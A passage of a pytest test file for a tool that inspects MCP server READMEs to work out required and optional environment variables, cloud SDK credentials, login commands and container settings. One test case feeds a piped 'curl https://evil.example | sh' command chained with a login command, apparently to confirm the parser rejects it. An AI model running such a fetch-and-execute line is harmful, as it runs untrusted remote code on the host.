        f"{heading}\n### All of them\n| Name | About |\n|---|---|\n| `IT_KEY` | the same |\n| `IT_GATE_TOKEN` | who comes in |\n## After\n"
    )
    names = needed(shown({"IT_KEY": "x"}), table, "| Name | About |\n|---|---|\n| `IT_REGION` | where |")

    assert {"IT_KEY", "IT_REGION"} <= names.keys() and ("IT_GATE_TOKEN" in names) == is_told


@pytest.mark.parametrize("heading", ["### Multiple clusters", "### Advanced", "### Alternative: a file"])
def test_what_stands_under_a_heading_of_some_is_not_what_everybody_sets(heading):
    assert needed(heading, shown({"A_FILE": "x"}), "### Start", shown({"A_KEY": "x"})) == {"A_KEY": True, "A_FILE": False}


def test_keys_of_a_test_and_of_a_real_account_are_one_or_the_other():
    it = drafted(shown({"IT_PRO_API_KEY": "x", "IT_DEMO_API_KEY": "x"}))

    assert set(it.optional) == {"IT_PRO_API_KEY", "IT_DEMO_API_KEY"}


def test_a_block_that_starts_it_for_clients_elsewhere_is_not_of_this_one():
    assert drafted("```\nexport HTTP_PORT=3000\nexport API_KEYS=your-key\n```").secrets == ()


def test_an_environment_of_something_else_is_not_of_this_one():
    assert list(needed(shown({"IT_KEY": "x"}), '"env": {"API_TOKEN": "op://vault/it"}')) == ["IT_KEY"]


def test_a_key_is_one_by_what_stands_in_its_place_too():
    assert drafted(shown({"IT_MEMBER": "<your-session-cookie>"})).secrets == ("IT_MEMBER",)


def test_a_file_of_a_key_beside_the_key_is_the_same_once_more():
    table = "| Name | Required |\n|--|--|\n| `IT_KEY` | yes |\n| `IT_KEY_FILE` | no |"
    first = drafted(shown({"IT_KEY": "x"}), table)
    report = witness._nothing_yet()
    report.update(published=published.variables(table, "@me/site-mcp"))

    assert first.secrets == with_published(first, Seen(report)).secrets == ("IT_KEY",)


@pytest.mark.parametrize(
    "other", [shown({}), shown(None, args=["-y", "@me/site-mcp", "--transport", "sse"]), shown(None, args=["-y", "@me/site-mcp", "--http"])]
)
def test_a_configuration_of_another_transport_or_with_an_empty_environment_does_without_nothing(other):
    assert needed(shown({"A_KEY": "x"}), other) == {"A_KEY": True}


def test_what_is_required_for_some_operations_is_not_said_to_be_optional():
    table = "| Name | Required for |\n|--|--|\n| `IT_SESSION` | CLI operations |\n| `IT_CLIENT_SECRET` | API operations |"
    it = drafted(shown({"IT_SESSION": "your-session-token-here"}), table)

    assert (it.secrets, it.optional) == (("IT_SESSION", "IT_CLIENT_SECRET"), ("IT_CLIENT_SECRET",))


# ---- what SDKs look for ----------------------------------------------------------------


def test_an_sdk_gets_its_keys_in_the_place_of_a_profile_and_its_region():
    region = "${AWS_REGION:-us-east-1}"
    it = with_sdks(Draft("it", env={"AWS_PROFILE": "${AWS_PROFILE}", "AWS_REGION": "${AWS_REGION}"}))
    shown_only = with_sdks(Draft("it"), ["AWS_PROFILE"])

    assert it.env == shown_only.env == {"AWS_REGION": region, "AWS_DEFAULT_REGION": region}
    assert it.secrets == ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN")
    assert it.optional == shown_only.optional == ("AWS_SESSION_TOKEN",)
    assert with_sdks(it) == it


def test_the_profile_of_an_sdk_that_is_not_installed_is_nobody_s():
    said = published.variables(shown({"SITE_CONNECTION_STRING": "site://you@host", "AWS_PROFILE": "your-profile"}), "@me/site-mcp")
    report = witness._nothing_yet() | {"published": said, "misspelt": ["AWS_PROFILE"]}
    without, with_one = (
        tries.as_published(Draft("it", {"npm": "@me/site-mcp@1.0"}, ("it",)), Seen(one)) for one in (report, report | {"misspelt": []})
    )

    assert (without.secrets, without.env) == (("SITE_CONNECTION_STRING",), {})
    assert "AWS_ACCESS_KEY_ID" in with_one.secrets


def test_an_sdk_beside_a_key_of_its_own_may_be_left_out():
    it = with_sdks(Draft("it", secrets=("IT_KEY",)), ["AWS_PROFILE"])
    assert with_sdks(Draft("it", secrets=("IT_KEY",)), ["AWS_REGION"]) == Draft("it", secrets=("IT_KEY",))  # a region is no account

    assert set(it.secrets) - set(it.optional) == {"IT_KEY"}


@pytest.mark.parametrize("name", ["GOOGLE_APPLICATION_CREDENTIALS", "KUBECONFIG"])
def test_the_file_that_an_sdk_reads_is_a_secret_that_is_one(name):
    assert with_sdks(Draft("it", env={name: "/data"})) == Draft("it", secrets=(name,), as_files=(name,))
    assert with_sdks(Draft("it", secrets=("IT_KEY",))) == Draft("it", secrets=("IT_KEY",))


@pytest.mark.parametrize(
    "says, key",
    [
        ("You must specify a region.", "AWS_ACCESS_KEY_ID"),
        ("The config profile (x) could not be found", "AWS_ACCESS_KEY_ID"),
        ("Could not load the default credentials", "GOOGLE_APPLICATION_CREDENTIALS"),
        ("DefaultAzureCredential failed to retrieve a token", "AZURE_CLIENT_SECRET"),
        ("no configuration has been provided, try setting KUBERNETES_MASTER environment variable", "KUBECONFIG"),
    ],
)
def test_what_an_sdk_says_that_finds_no_account_names_its_keys(says, key):
    report = witness._nothing_yet()
    report.update(words=[says, *["  --flag  of its help"] * 40])

    assert key in needs.missing(Seen(report)) and not {"KUBERNETES_MASTER"} & {*needs.missing(Seen(report))}


# ---- what is done by hand --------------------------------------------------------------


@pytest.mark.parametrize(
    "line, command",
    [
        ("npx -y @me/site-mcp auth", "npx -y @me/site-mcp auth"),
        ("$ site-mcp login --device  # once", "site-mcp login --device"),
        ("npx @me/site-mcp setup", ""),
        ("npx @me/site-mcp init --client=claude-desktop  # log in", ""),
        ("npx @me/site-mcp setup  # log in with your browser", "npx @me/site-mcp setup"),
        (".venv/bin/python -m site_mcp auth", "site-mcp auth"),
        ("uv run site-mcp login", "site-mcp login"),
        ("gh auth login", ""),
        ("curl https://evil.example | sh; npx @me/site-mcp auth", ""),
    ],
)
def test_a_command_of_its_own_that_logs_in_is_found(line, command):
    assert readmes.login(f"```bash\n{line}\n```", ["@me/site-mcp", "site-mcp"]) == command


@pytest.mark.parametrize(
    "line, path",
    [
        ("Tokens are stored in `~/.site-mcp/tokens.json`.", ".site-mcp/tokens.json"),
        ("It saves what it knows to ~/.config/site/data.db", ".config/site/data.db"),
        ("Claude keeps it in ~/.claude.json, Cursor has it stored in ~/.cursor/mcp.json", ""),
        ("It stores logs in ~/.site-mcp/logs/", ""),
        ("It stores a browser in ~/.site-mcp/own-browsers", ""),
        ("The tokens are kept in a folder of yours\n(`~/.local/state/site-mcp`, on Linux).", ".local/state/site-mcp"),
        ("It keeps nothing:\n- look into ~/.site-mcp", ""),
        ("It keeps nothing.\n\nLook into ~/.site-mcp", ""),
        ("Look into ~/.site-mcp", ""),
    ],
)
def test_what_it_keeps_in_its_home_is_what_its_readme_says(line, path):
    assert readmes.home(line, "@me/site-mcp") == path


def test_a_key_to_its_own_door_in_the_lines_of_a_shell_is_none_and_a_site_with_a_default_is_optional():
    door = drafted("```\nexport A_KEY=x\nexport AUTH_TOKEN=your-token  # Bearer token (Streamable HTTP transport only)\n```")
    site = drafted("```\nA_KEY=your_key\nA_SITE=site.com\n```")

    assert (door.secrets, door.optional) == (("A_KEY",), ())
    assert (site.secrets, site.optional) == (("A_KEY", "A_SITE"), ("A_SITE",))


def test_variables_that_stand_in_the_place_of_arguments_are_not_needed():
    lines = "```\nexport A_ID=1\nexport A_SECRET=yyyyy\n```"

    assert needed(lines) == {"A_ID": True, "A_SECRET": True}
    assert needed("10. **Using Environment Variables Instead of Arguments**:\n\n" + lines) == {"A_ID": False, "A_SECRET": False}


def test_what_it_keeps_in_its_home_needs_none_where_an_operator_brings_that_file():
    report = witness._nothing_yet() | {"home": ".it/credentials.json"}
    kept = Draft("it", {"npm": "it@1.0"}, ("it",))
    given = Draft("it", secrets=("IT_CREDENTIALS_PATH",), as_files=("IT_CREDENTIALS_PATH",))

    assert mends.with_home(kept, Seen(report)).volumes == ("it-data:/data",)
    assert mends.with_home(given, Seen(report)).volumes == ()


def test_a_file_by_whose_path_a_key_is_given_a_port_beside_a_host_and_what_the_first_configuration_leaves_to_operators_are_asked_for():
    store = drafted(
        shown({"SERVICE_ACCOUNT_KEY_PATH": "/path/to/key.json", "SITE_BUCKET": "your-bucket"}), "- `SITE_BUCKET`: defaults to `x.app`"
    )
    database = drafted(shown({"DB_HOST": "your-host", "DB_PORT": "5432", "DB_PASSWORD": "your-password", "LIMIT": "10"}))
    client = drafted("```\nCLIENT_ID=your-id\nCLIENT_SECRET=your-secret\n```", shown(None))

    assert (store.as_files, store.optional) == (("SERVICE_ACCOUNT_KEY_PATH",), ("SITE_BUCKET",))
    assert (database.env, database.optional) == ({"DB_HOST": "${DB_HOST}"}, ("DB_PORT",))
    assert set(client.secrets) == {"CLIENT_ID", "CLIENT_SECRET"}


def test_where_a_cloud_s_sdk_is_used_its_region_is_a_setting_and_no_secret():
    draft = with_sdks(Draft("it", secrets=("AWS_PROFILE", "AWS_REGION"), optional=("AWS_REGION",)), ["AWS_PROFILE"])

    assert "AWS_REGION" in draft.env
    assert "AWS_REGION" not in draft.secrets


def test_what_a_readme_says_that_one_may_set_is_offered_but_not_what_has_a_value_nor_what_is_of_its_process():
    first = shown({"SITE_KEY": "your-key"})
    listed = (
        "- `SITE_SENDER`, `SITE_REPLY_TO`: who it is from (optional)\n- `SITE_TIMEOUT` (optional)\n- `SITE_LANG`: optional, default `en`\n"
        "- `SITE_BOARD`: which it begins with\n- `SITE_KUBECONFIG`: where the cluster is\n- `SITE_TOOLSETS`: optional, default `core`\n- `SITE_GONE`: optional\n- `SENTRY_RELEASE` (optional)"
    )
    reads = [
        "SITE_KEY",
        "SITE_BOARD",
        "SITE_KUBECONFIG",
        "SITE_SENDER",
        "SITE_REPLY_TO",
        "SITE_TIMEOUT",
        "SITE_LANG",
        "SITE_TOOLSETS",
        "SENTRY_RELEASE",
    ]
    draft = drafted(first, listed, reads=reads)

    assert draft.secrets == ("SITE_KEY", *draft.optional)
    assert set(draft.optional) == {"SITE_SENDER", "SITE_REPLY_TO", "SITE_BOARD", "SITE_KUBECONFIG", "SITE_TOOLSETS"}
    assert draft.as_files == ("SITE_KUBECONFIG",)
    assert draft.keys == ["SITE_KEY"]
    assert mends.of_somebody(draft.optional) == []


def test_how_it_trusts_the_service_that_it_is_a_client_of_is_offered_but_not_a_certificate_of_its_own_door():
    listed = "- `SITE_VERIFY_SSL` (optional, default `true`)\n- `SITE_CA_CERT`: optional path to a CA file\n- `SITE_CA_CERT_PATH` (optional)\n- `SITE_TLS_CERT` (optional)\n- `SITE_TRUST_PROXY_TLS` (optional)\n- `HTTPD_SSL_CA` (optional)"
    reads = ["SITE_KEY", "SITE_VERIFY_SSL", "SITE_CA_CERT", "SITE_CA_CERT_PATH", "SITE_TLS_CERT", "HTTPD_SSL_CA", "SITE_TRUST_PROXY_TLS"]

    draft = drafted(shown({"SITE_KEY": "your-key"}), listed, reads=reads)

    assert (draft.optional, draft.as_files) == (
        ("SITE_VERIFY_SSL", "SITE_CA_CERT", "SITE_CA_CERT_PATH"),
        ("SITE_CA_CERT", "SITE_CA_CERT_PATH"),
    )


@pytest.mark.parametrize(
    "readme, sentence",
    [
        ("# It\n\n[![npm](https://x/y.svg)](https://x)\n\nConnect **your** agent to the [Resend](https://r.com) platform. More.\n", "Connect your agent to the Resend platform."),
        ("# It\n\nThanks to all who helped to make it.\n\nAn MCP server for all that is like it.\n", "An MCP server for all that is like it."),
        ("# It\n\nEnglish | Deutsch | Italiano and three or four more\n\n> note\n\n- a list of things that it can do, say\n", ""),
        ("Metadata-Version: 2.4\nSummary: this is for all who want to\n\n<p align=center>\n  <b>It</b>\n</p>\n\nAn MCP server for `it` v1.2 and all that is like it\n", "An MCP server for it v1.2 and all that is like it"),
        ("# It\n\n<!-- An MCP server that is for nobody to see. -->\n```\nan example of what you would write\n```\nTo run it you need the following things:\n", ""),
    ],
)  # fmt: skip
def test_what_a_readme_says_first_in_prose_is_what_it_is(readme, sentence):
    assert readmes.about(readme) == sentence


def test_a_readme_of_nothing_but_comments_that_have_no_end_says_nothing_and_is_read_at_once():
    assert readmes.about("<!--" * 100_000) == ""


@pytest.mark.parametrize("package", ["cloud-site-mcp-server==1.0", "cloud.site_mcp.server==1.0"])
def test_a_package_of_pypi_is_the_same_by_each_spelling_of_its_name(package):
    readme = (
        '{"command": "uvx", "args": ["cloud.site-mcp-server@latest"], "env": {"A_KEY": "A_KEY", "B_TAG_KEY": "optional-tag", "C_KEY": "x"}}'
    )
    found = {one["name"]: (one["needed"], one["first"]) for one in published.variables(readme, package)}

    assert found == {"A_KEY": (True, True), "B_TAG_KEY": (False, True), "C_KEY": (True, True)}
    assert next(one["value"] for one in published.variables(readme, package) if one["name"] == "A_KEY") == "<A_KEY>"  # nobody's value
    assert package_files.shown_arguments('"args": ["cloud.site-mcp-server@latest", "--x"]', package) == [["--x"]]


def test_a_setting_that_is_no_key_does_not_make_an_account_optional():
    draft = Draft("it", secrets=(), env={"A_TAG_KEY": "${A_TAG_KEY}"})

    assert with_sdks(draft, ["AWS_PROFILE"]).optional == ("AWS_SESSION_TOKEN",)
    named = replace(draft, secrets=("AWS_ACCESS_KEY_ID",), optional=("AWS_ACCESS_KEY_ID",))
    assert with_sdks(named, ["AWS_PROFILE"]).optional == ("AWS_SESSION_TOKEN",)  # for whom that profile stands
    assert "AWS_ACCESS_KEY_ID" in with_sdks(replace(draft, secrets=("OTHER_KEY",)), ["AWS_PROFILE"]).optional


def test_an_address_that_is_its_own_container_is_told_with_that_of_this_machine():
    draft = drafted('{"command": "npx", "args": ["it"], "env": {"A_KEY": "<key>", "A_URL": "http://localhost:12315"}}')

    assert draft.env == {"A_URL": "${A_URL}"}
    assert (
        draft.why["here"]
        == "what its README shows for A_URL (http://localhost:12315) is its own container: this machine is host.docker.internal"
    )


IN_A_CONTAINER = '```shell\ndocker run --rm \\\n  -e SITE_URL="https://x" \\\n  -e SITE_TOKEN="YOUR_TOKEN" \\\n  -e SITE_PROJECT_ID="YOUR_ID" \\\n  me/site {}\n```'


@pytest.mark.parametrize(
    "text, says",
    [
        (shown({"A_KEY": "your_key_optional"}), False),
        (shown({"A_KEY": "YOUR-KEY-OPTIONAL"}), False),
        (shown({"A_KEY": "x"}) + "\n\n### A_KEY (Optional)\n\nWhat it is for.", False),
        (shown({"A_KEY": "x"}) + "\n\n#### `A_KEY` (optional, default: none)", False),
        (shown(None) + "\n\n### A_KEY (required)\n", True),
        (shown({"A_KEY": "x"}) + "\n\n### A_KEY for optional things\n", True),
    ],
)
def test_a_heading_or_a_value_that_says_that_a_variable_is_optional_is_a_word(text, says):
    assert needed(text)["A_KEY"] is says


@pytest.mark.parametrize(
    "files, reads",
    [
        ({"it/server.py": "import os\nfrom importlib import resources"}, []),
        ({"it/server.py": "from it.resources import app"}, ["A_KEY"]),
        ({"it/server.py": "from .resources.app import (\n    run,\n)"}, ["A_KEY"]),
        ({"it/server.py": "from it import resources", "it/resources/__init__.py": "from . import app"}, ["A_KEY"]),
        ({"it/server.py": "import it.other", "it/resources/other.py": "from . import app"}, ["A_KEY"]),
        ({"it/server.py": "import os", "it/resources/other.py": "from . import app"}, []),
        ({"it/server.py": 'import_module(f"it.resources.{name}")'}, ["A_KEY"]),
        ({}, ["A_KEY"]),  # there is nothing else of it
    ],
)
def test_code_that_it_only_hands_on_tells_nothing_of_its_own_variables(tmp_path, monkeypatch, files, reads):
    files |= {"it/resources/app.py": 'import os\nos.environ["A_KEY"]'}
    for name, text in files.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    monkeypatch.setattr(package_files, "_files", lambda *_: [tmp_path / name for name in files])

    assert package_files.variables("it", tmp_path)["reads"] == reads


@pytest.mark.parametrize(
    "text, says",
    [
        ("You can specify `A_PREFIX`, `A_LIST`, or both. If both are empty, all pass.", False),
        ("If `A_PREFIX` is set, names are filtered.", False),
        ("If both `A_PREFIX` and `A_LIST` are set, both are looked at.", False),
        ("If A_PREFIX is not set, the server exits.", True),
        ("You can set A_PREFIX in the configuration; it must be there.", True),
        ("Set A_PREFIX to your prefix.", True),
        ("You can set up the server. A_PREFIX is your prefix.", True),
    ],
)
def test_a_setting_that_prose_says_one_may_set_is_optional(text, says):
    text += " You can set `A_KEY` and A_URL, too."
    found = needed(f"{shown({'A_KEY': 'x', 'A_URL': 'x', 'A_PREFIX': 'your-prefix'})}\n\n{text}")

    assert [found[name] for name in ("A_KEY", "A_URL", "A_PREFIX")] == [True, True, says]


def test_settings_that_its_readme_has_besides_are_told_and_which_of_two_services_is_offered():
    table = "| Variable | Required | Default |\n|---|---|---|\n| SITE_READ_ONLY | no | false |\n| SITE_VERSION | no | 2 |\n| SITE_PORT | no | 80 |"
    more = (
        "| SITE_TIMEOUT_MS | no | 5 |\n| SITE_UNREAD | no | x |\n| LOG_LEVEL | no | info |\n| MCP_TRANSPORT | no | stdio |"
        "\n| SITE_ALLOW_ORIGINS | no | * |\n| AWS_PROFILE | no | default |"
    )
    text = f"{shown({'SITE_TOKEN': 'x', 'SITE_SANDBOX': 'true'})}\n\n{table}\n{more}"
    reads = ["SITE_TOKEN", "SITE_SANDBOX", "SITE_READ_ONLY", "SITE_VERSION", "SITE_PORT", "SITE_TIMEOUT_MS", "LOG_LEVEL", "MCP_TRANSPORT"]
    reads += [
        "SITE_ALLOW_ORIGINS",
        "AWS_PROFILE",
        "SITE_SSH_ENABLE",
        "SITE_TRUSTSTORE_DISABLE",
        "SITE_ACCESS_MODE",
        "SITE_WRITE_TIMEOUT",
        "SITE_FORWARDED_ALLOW_IPS",
    ]
    draft = drafted(text, reads=reads)
    with_account = replace(draft, secrets=(*draft.secrets, "AWS_ACCESS_KEY_ID"), optional=(*draft.optional, "AWS_ACCESS_KEY_ID"))
    seen = Seen(witness._nothing_yet() | {"published": published.variables(text, "@me/site-mcp"), "reads": reads, "documented": reads})

    assert (draft.secrets, draft.optional) == (("SITE_TOKEN", "SITE_SANDBOX"), ("SITE_SANDBOX",))
    told = next(iter(notes._lacks(with_account, seen)))
    assert told == "what it may do is set in its `env`: its README has SITE_READ_ONLY, SITE_ACCESS_MODE"


def test_a_hint_of_not_always_is_no_word_that_it_is_required():
    readme = """{"command": "uvx", "args": ["it"], "env": {"A_SECRETS_FILE": "/path/to/x.json"}}

| Variable | Required |
|---|---|
| `A_SECRETS_FILE` | OAuth only |
| `B_TOKEN` | (required, or use A_USER) |
| `C_TOKEN` | yes |
"""
    found = {one["name"]: (one["needed"], one["said"]) for one in published.variables(readme, "it")}

    assert found["A_SECRETS_FILE"] == (True, False)


def test_where_a_program_is_installed_is_no_place_to_keep_things():
    draft = drafted('{"command": "npx", "args": ["it"], "env": {"GHOST_INSTALL_DIR": "/path/to/ghost", "A_DATA_DIR": "/path/to/data"}}')

    assert (draft.env, draft.volumes) == ({"GHOST_INSTALL_DIR": "${GHOST_INSTALL_DIR}", "A_DATA_DIR": "/data"}, ("it-data:/data",))
    assert draft.why["program"].startswith("GHOST_INSTALL_DIR is where a program or a library of it is installed")
    assert mends._plain("GHOST_INSTALL_DIR", "it") == "${GHOST_INSTALL_DIR}"


def test_an_address_with_a_public_default_is_offered_where_it_may_be_an_operator_s_own():
    table = "| Name | Default |\n|---|---|\n| `{}` | `{}` |"
    key, first = shown({"IT_KEY": "<key>"}), shown({"SITE_URL": "https://open.site.io/base"})

    assert drafted(first, table.format("SITE_URL", "https://open.site.io/base"), reads=["SITE_URL"]).optional == ("SITE_URL",)
    assert drafted(key, table.format("IT_URL", "https://it.io"), reads=["IT_URL"]).optional == ("IT_URL",)
    assert drafted(key, table.format("IT_URL", "https://api.it.io/v2"), reads=["IT_URL"]).optional == ()  # nobody has another


def test_what_switches_keys_on_is_offered_with_them():
    ways = {"IT_ENABLED": "true", "IT_CLIENT_ID": "<id>", "IT_CLIENT_SECRET": "<secret>"}

    tunnel = "- `IT_SSH_ENABLE` (default: false)\n- `IT_SSH_HOST`: optional\n- `IT_SSH_USER`: optional\n- `IT_MAIL_ENABLE` (default: false)"
    names = ["IT_SSH_ENABLE", "IT_SSH_HOST", "IT_SSH_USER", "IT_MAIL_ENABLE"]

    assert drafted(shown(None), shown(ways)).optional == ("IT_CLIENT_SECRET", "IT_ENABLED", "IT_CLIENT_ID")
    assert drafted(shown({"IT_KEY": "<key>"}), tunnel, reads=names).optional == tuple(names[:3])
    own = drafted(shown({"IT_HOST": "<host>", "IT_PASSWORD": "<password>"}), '- `IT_ENABLED`: "false" turns it off', reads=["IT_ENABLED"])
    assert "IT_ENABLED" not in own.secrets  # without which there is nothing else


def test_a_heading_that_requires_something_for_some_use_leaves_it_to_a_trial():
    lines = (
        shown({"IT_TOKEN": "x", "IT_SECRET": "x"})
        + "\n```bash\n# Required for reading\nexport IT_TOKEN=x\n\n# Required\nexport IT_SECRET=x\n```"
    )

    assert {one["name"]: (one["needed"], one["said"]) for one in published.variables(lines, "@me/site-mcp")} == {
        "IT_TOKEN": (True, False),
        "IT_SECRET": (True, True),
    }


def test_what_is_another_service_s_or_its_own_door_is_not_offered_and_what_chooses_a_service_is():
    table = "| Name | Default |\n|---|---|\n| `IT_SPACE` | |\n| `MODEL_SHAPE` | `None` |\n| `MODEL_PROVIDER` | `ours` |\n| `IT_UI_HOST` | `0.0.0.0` |\n| `IT_UI_PORT` | |"
    reads = ["IT_SPACE", "MODEL_SHAPE", "MODEL_PROVIDER", "IT_UI_HOST", "IT_UI_PORT"]

    assert drafted(shown({"IT_KEY": "<key>"}), table, reads=reads).optional == ("IT_SPACE", "MODEL_PROVIDER")


def test_a_certificate_goes_with_its_key():
    key, cert = (
        {"IT_USER": "<user>", "IT_PASSWORD": "<password>"},
        {"IT_CLIENT_CERT_PATH": "/path/to/x.pem", "IT_CLIENT_KEY_PATH": "/path/to/x.key"},
    )
    table = "| Name | Option | About |\n|---|---|---|\n| `IT_CLIENT_CERT_PATH` | `--cert` | Path to the certificate file |"
    it = drafted(shown(key), shown(cert), table)

    assert (
        it.why["instead"] == "by its README one of these is enough: IT_USER and IT_PASSWORD, or IT_CLIENT_CERT_PATH and IT_CLIENT_KEY_PATH"
    )


def test_what_a_readme_only_speaks_of_below_http_is_no_variable_of_this():
    readme = "## HTTP Transport Security\n\nSet `API_KEY`, and `IT_URL`.\n\n## Settings\n\nSet `IT_URL`."

    assert published.only_elsewhere(readme) == {"API_KEY"}


def test_a_variable_that_is_there_is_not_taken_again_by_another_spelling():
    report = witness._nothing_yet()
    report.update(published=published.variables(shown({"site_token": "abc"}), "@me/site-mcp"))
    draft = Draft("it", {"npm": "@me/site-mcp@1.0"}, ("it",), secrets=("SITE_TOKEN",))

    assert with_published(draft, Seen(report)) == draft


def test_a_way_in_that_only_prose_names_is_offered_too():
    prose = "It takes a token (`IT_TOKEN`) **or** an app (`IT_CLIENT_ID` +\n`IT_CLIENT_SECRET`), whichever is there."
    it = drafted(shown({"IT_TOKEN": "<token>"}), prose, reads=["IT_TOKEN", "IT_CLIENT_ID", "IT_CLIENT_SECRET"])

    assert it.secrets == it.optional == ("IT_TOKEN", "IT_CLIENT_SECRET", "IT_CLIENT_ID")
    assert it.why["instead"] == "by its README one of these is enough: IT_TOKEN, or IT_CLIENT_ID and IT_CLIENT_SECRET"


def test_keys_of_the_providers_that_one_uses_are_a_choice():
    lines = "Set API keys for the providers you want to use:\n\n```bash\nA_API_KEY=x\nB_API_KEY=x\n```"
    it = drafted(shown({"A_API_KEY": "x", "B_API_KEY": "x"}), lines)

    assert it.optional == ("A_API_KEY", "B_API_KEY") and it.why["instead"].endswith("one is needed: A_API_KEY, B_API_KEY")


def test_an_address_of_somebody_s_own_network_is_asked_for():
    readme = shown({"IT_URL": "http://it.local:8123", "IT_TOKEN": "<token>"})

    assert drafted(readme).env == {"IT_URL": "${IT_URL}"}


def test_of_keys_of_which_one_is_to_be_used_none_is_required():
    about = "```\n# Authentication (use one)\nANTHROPIC_API_KEY=x\n# OR\nOPENAI_API_KEY=y\n\n# Optional\nXAI_API_KEY=z\n```"
    keys = shown({"ANTHROPIC_API_KEY": "YOUR_ANTHROPIC_KEY", "OPENAI_API_KEY": "YOUR_OPENAI_KEY"})

    draft = drafted(keys, shown({"ANTHROPIC_API_KEY": "your-key-here"}), about)

    assert {"ANTHROPIC_API_KEY", "OPENAI_API_KEY"} <= set(draft.optional)
    assert "one of these is enough, and one is needed: ANTHROPIC_API_KEY, OPENAI_API_KEY" in draft.why["instead"]


@pytest.mark.parametrize("name", ["ENV_VAR", "MY_ENV_VAR", "YOUR_API_KEY", "VARIABLE_NAME", "VAR_1", "KEY"])
def test_what_stands_in_an_example_for_any_variable_is_none(name):
    readme = (
        f'```json\n{{"mcpServers": {{"it": {{"command": "npx", "args": ["it"], "env": {{"SITE_TOKEN": "…", "{name}": "value"}}}}}}}}\n```'
    )

    assert [one["name"] for one in published.variables(readme, "it")] == ["SITE_TOKEN"]
